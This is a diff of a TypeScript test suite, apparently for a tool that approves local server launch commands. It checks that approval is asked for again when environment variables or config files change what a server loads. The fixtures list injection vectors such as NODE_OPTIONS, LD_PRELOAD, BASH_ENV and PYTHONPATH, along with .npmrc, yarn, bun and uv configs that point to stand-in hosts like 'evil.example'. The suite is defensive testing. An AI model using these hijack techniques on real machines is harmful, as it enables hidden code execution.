@@ -51,28 +51,104 @@ const FORMS: readonly (readonly [(path: string) => Server, 'seen' | 'told'])[] =
 const PATHS = ['tools/s.js', 'tools/s.log', 'tools/s.db', 'tools/s.csv', 'tools/s.lock'];
 
 const NAMED: Readonly<Record<string, Try>> = {
-  'NODE_OPTIONS': { server: { command: 'node', args: ['main.js'], env: { NODE_OPTIONS: '--require ./tools/x.log' } }, file: 'tools/x.log', of: node, more: { 'main.js': '' }, runs: true },
-  'NODE_PATH': { server: { command: 'node', args: ['main.js'], env: { NODE_PATH: 'tools' } }, file: 'tools/x.js', of: node, more: { 'main.js': 'require("x")' }, runs: true },
-  'PATH': { server: { command: 'sh', args: ['-c', 'own-tool'], env: { PATH: `./tools:${process.env['PATH'] ?? ''}` } }, file: 'tools/own-tool', of: (says) => `#!/bin/sh\n${shell(says)}`, runs: true },
-  'BASH_ENV': { server: { command: 'bash', args: ['-c', ':'], env: { BASH_ENV: './tools/x.db' } }, file: 'tools/x.db', of: shell, runs: true },
-  'ENV': { server: { command: 'sh', args: ['-i', '-c', ':'], env: { ENV: './tools/x.log' } }, file: 'tools/x.log', of: shell },
-  'PYTHONPATH': { server: { command: 'python3', args: ['main.py'], env: { PYTHONPATH: 'tools' } }, file: 'tools/x.py', of: python, more: { 'main.py': 'import x' }, runs: true },
-  'PERL5LIB': { server: { command: 'perl', args: ['main.pl'], env: { PERL5LIB: 'tools' } }, file: 'tools/x.pm', of: (says) => `open(F, ">>", "$ENV{HERE}/ran"); print F "${says}"; close(F); 1;`, more: { 'main.pl': 'use x;' }, runs: true },
-  'LD_PRELOAD': { server: { command: 'true', env: { LD_PRELOAD: './tools/x.so' } }, file: 'tools/x.so', of: text },
-  'a file with variables': { server: { command: 'node', args: ['main.js'], envFile: 'my.env' }, file: 'tools/x.js', of: node, more: { 'main.js': '', 'my.env': 'NODE_OPTIONS=--require ./tools/x.js\n' } },
+  NODE_OPTIONS: {
+    server: { command: 'node', args: ['main.js'], env: { NODE_OPTIONS: '--require ./tools/x.log' } },
+    file: 'tools/x.log',
+    of: node,
+    more: { 'main.js': '' },
+    runs: true,
+  },
+  NODE_PATH: {
+    server: { command: 'node', args: ['main.js'], env: { NODE_PATH: 'tools' } },
+    file: 'tools/x.js',
+    of: node,
+    more: { 'main.js': 'require("x")' },
+    runs: true,
+  },
+  PATH: {
+    server: { command: 'sh', args: ['-c', 'own-tool'], env: { PATH: `./tools:${process.env['PATH'] ?? ''}` } },
+    file: 'tools/own-tool',
+    of: (says) => `#!/bin/sh\n${shell(says)}`,
+    runs: true,
+  },
+  BASH_ENV: { server: { command: 'bash', args: ['-c', ':'], env: { BASH_ENV: './tools/x.db' } }, file: 'tools/x.db', of: shell, runs: true },
+  ENV: { server: { command: 'sh', args: ['-i', '-c', ':'], env: { ENV: './tools/x.log' } }, file: 'tools/x.log', of: shell },
+  PYTHONPATH: {
+    server: { command: 'python3', args: ['main.py'], env: { PYTHONPATH: 'tools' } },
+    file: 'tools/x.py',
+    of: python,
+    more: { 'main.py': 'import x' },
+    runs: true,
+  },
+  PERL5LIB: {
+    server: { command: 'perl', args: ['main.pl'], env: { PERL5LIB: 'tools' } },
+    file: 'tools/x.pm',
+    of: (says) => `open(F, ">>", "$ENV{HERE}/ran"); print F "${says}"; close(F); 1;`,
+    more: { 'main.pl': 'use x;' },
+    runs: true,
+  },
+  LD_PRELOAD: { server: { command: 'true', env: { LD_PRELOAD: './tools/x.so' } }, file: 'tools/x.so', of: text },
+  'a file with variables': {
+    server: { command: 'node', args: ['main.js'], envFile: 'my.env' },
+    file: 'tools/x.js',
+    of: node,
+    more: { 'main.js': '', 'my.env': 'NODE_OPTIONS=--require ./tools/x.js\n' },
+  },
   'a module of Python': { server: { command: 'python3', args: ['-m', 'tools.x'] }, file: 'tools/x/__main__.py', of: python, runs: true },
   'a search path of Perl': { server: { command: 'perl', args: ['-Itools', '-Mx', 'main.pl'] }, file: 'tools/x.pm', of: text, more: { 'main.pl': '' } },
-  '.npmrc in front of npx': { server: { command: 'npx', args: ['-y', 'some-server@1.2.3'] }, file: '.npmrc', of: () => 'registry=https://evil.example\n', appears: true },
-  '.npmrc in the folder to work in': { server: { command: 'npm', args: ['run', 'mcp'], cwd: 'tools' }, file: 'tools/.npmrc', of: () => 'script-shell=./evil\n', appears: true, more: { 'tools/package.json': '{}' } },
-  '.npmrc above the folder to work in': { server: { command: 'sh', args: ['-c', 'cd tools/sub && npm start'] }, file: 'tools/.npmrc', of: () => 'script-shell=./evil\n', appears: true, more: { 'tools/sub/package.json': '{}' } },
+  '.npmrc in front of npx': {
+    server: { command: 'npx', args: ['-y', 'some-server@1.2.3'] },
+    file: '.npmrc',
+    of: () => 'registry=https://evil.example\n',
+    appears: true,
+  },
+  '.npmrc in the folder to work in': {
+    server: { command: 'npm', args: ['run', 'mcp'], cwd: 'tools' },
+    file: 'tools/.npmrc',
+    of: () => 'script-shell=./evil\n',
+    appears: true,
+    more: { 'tools/package.json': '{}' },
+  },
+  '.npmrc above the folder to work in': {
+    server: { command: 'sh', args: ['-c', 'cd tools/sub && npm start'] },
+    file: 'tools/.npmrc',
+    of: () => 'script-shell=./evil\n',
+    appears: true,
+    more: { 'tools/sub/package.json': '{}' },
+  },
   '.yarnrc.yml': { server: { command: 'yarn', args: ['mcp'] }, file: '.yarnrc.yml', of: () => 'yarnPath: ./evil.js\n', appears: true },
   'bunfig.toml': { server: { command: 'bun', args: ['run', 'server.ts'] }, file: 'bunfig.toml', of: () => 'preload = ["./evil.ts"]\n', appears: true },
   'uv.toml': { server: { command: 'uvx', args: ['some-server==1.2.3'] }, file: 'uv.toml', of: () => 'index-url = "https://evil.example"\n', appears: true },
   'pip.conf': { server: { command: 'pipx', args: ['run', 'some-server==1.2.3'] }, file: 'pip.conf', of: () => '[global]\n', appears: true },
-  'a compose file that overrides': { server: { command: 'docker', args: ['compose', 'run', 'mcp'] }, file: 'compose.override.yaml', of: () => 'services: {}\n', appears: true },
-  'a script of npm': { server: { command: 'npm', args: ['run', 'mcp'] }, file: 'tools/x.js', of: node, more: { 'package.json': '{"scripts":{"mcp":"node tools/x.js"}}' }, tells: true },
-  'a target of make': { server: { command: 'make', args: ['-s', 'mcp'] }, file: 'tools/x.js', of: node, more: { Makefile: 'mcp:\n\tnode tools/x.js\n' }, runs: true, tells: true },
-  'what a script loads': { server: { command: 'node', args: ['main.js'] }, file: 'tools/x.js', of: node, more: { 'main.js': 'require("./tools/x.js")' }, runs: true, tells: true },
+  'a compose file that overrides': {
+    server: { command: 'docker', args: ['compose', 'run', 'mcp'] },
+    file: 'compose.override.yaml',
+    of: () => 'services: {}\n',
+    appears: true,
+  },
+  'a script of npm': {
+    server: { command: 'npm', args: ['run', 'mcp'] },
+    file: 'tools/x.js',
+    of: node,
+    more: { 'package.json': '{"scripts":{"mcp":"node tools/x.js"}}' },
+    tells: true,
+  },
+  'a target of make': {
+    server: { command: 'make', args: ['-s', 'mcp'] },
+    file: 'tools/x.js',
+    of: node,
+    more: { Makefile: 'mcp:\n\tnode tools/x.js\n' },
+    runs: true,
+    tells: true,
+  },
+  'what a script loads': {
+    server: { command: 'node', args: ['main.js'] },
+    file: 'tools/x.js',
+    of: node,
+    more: { 'main.js': 'require("./tools/x.js")' },
+    runs: true,
+    tells: true,
+  },
   'code in an argument': { server: { command: 'node', args: ['-e', 'require("./tools/x.js")'] }, file: 'tools/x.js', of: node, runs: true, tells: true },
 };
 
@@ -83,23 +159,34 @@ describe('an approved server', () => {
       for (const path of [PATHS[0] ?? '', PATHS[1 + (index % (PATHS.length - 1))] ?? '']) {
         const server = make(path);
         const { told, before, after } = await tried({ server, file: path, of: text, more: { 'main.js': '' } });
-        const others = told.flatMap((sentence) => /^Not checked: (.*)\. Gnomon/.exec(sentence)?.[1]?.split('; ') ?? []).filter((part) => !part.endsWith('loads or runs in turn'));
-        if (before !== 'may' || (after === 'may' && (how === 'seen' || others.length === 0))) wrong.push(`${JSON.stringify(server)}: ${before} ${after} ${told.join(' ')}`);
+        const others = told
+          .flatMap((sentence) => /^Not checked: (.*)\. Gnomon/.exec(sentence)?.[1]?.split('; ') ?? [])
+          .filter((part) => !part.endsWith('loads or runs in turn'));
+        if (before !== 'may' || (after === 'may' && (how === 'seen' || others.length === 0)))
+          wrong.push(`${JSON.stringify(server)}: ${before} ${after} ${told.join(' ')}`);
       }
     }
     expect(wrong).toEqual([]);
   });
 
   it('is one that runs its script: in all of these ways, it does', () => {
-    const silent = FORMS.map(([make]) => make('tools/s.js')).filter((server) => !ran({ server, file: 'tools/s.js', of: JSON.stringify(server).includes('"node"') ? node : shell, more: { 'main.js': '' } }).includes('old'));
+    const silent = FORMS.map(([make]) => make('tools/s.js')).filter(
+      (server) => !ran({ server, file: 'tools/s.js', of: JSON.stringify(server).includes('"node"') ? node : shell, more: { 'main.js': '' } }).includes('old'),
+    );
     expect(silent).toEqual([]);
   });
 
-  it.each(Object.entries(NAMED))('M-31: is asked for again when what decides what it loads changes or appears, or the dialog has said so: %s', async (_name, one) => {
-    if (one.runs === true) expect(ran(one)).toContain('old');
-    const { told, before, after } = await tried(one);
-    expect({ before, isNoticed: after === 'changed' || (one.tells === true && told.some((sentence) => sentence.startsWith('Not checked: '))) }).toEqual({ before: 'may', isNoticed: true });
-  });
+  it.each(Object.entries(NAMED))(
+    'M-31: is asked for again when what decides what it loads changes or appears, or the dialog has said so: %s',
+    async (_name, one) => {
+      if (one.runs === true) expect(ran(one)).toContain('old');
+      const { told, before, after } = await tried(one);
+      expect({ before, isNoticed: after === 'changed' || (one.tells === true && told.some((sentence) => sentence.startsWith('Not checked: '))) }).toEqual({
+        before: 'may',
+        isNoticed: true,
+      });
+    },
+  );
 
   it.each([
     ['npx', ['-y', 'some-server'], 'some-server'],
@@ -147,7 +234,13 @@ describe('an approved server', () => {
   });
 });
 
-async function tried({ server, file, of, more = {}, appears }: Try): Promise<{ readonly told: readonly string[]; readonly before: string; readonly after: string }> {
+async function tried({
+  server,
+  file,
+  of,
+  more = {},
+  appears,
+}: Try): Promise<{ readonly told: readonly string[]; readonly before: string; readonly after: string }> {
   const folder = temporaryFolder();
   put(folder, { ...more, 'docs/a.md': 'a', ...(appears === true ? {} : { [file]: of('old') }) });
   const rig = new ApprovalsRig(folder);
@@ -167,7 +260,12 @@ function ran({ server, file, of, more = {} }: Try): string {
   const at = join(folder, 'ran');
   rmSync(at, { force: true });
   try {
-    execFileSync(server.command, [...(server.args ?? [])], { cwd: join(folder, server.cwd ?? '.'), env: { PATH: process.env['PATH'] ?? '', ...server.env, HERE: folder }, stdio: ['ignore', 'ignore', 'ignore'], timeout: 10_000 });
+    execFileSync(server.command, [...(server.args ?? [])], {
+      cwd: join(folder, server.cwd ?? '.'),
+      env: { PATH: process.env['PATH'] ?? '', ...server.env, HERE: folder },
+      stdio: ['ignore', 'ignore', 'ignore'],
+      timeout: 10_000,
+    });
   } catch {
     // Whether it ran is asked for, and not how it ended.
   }
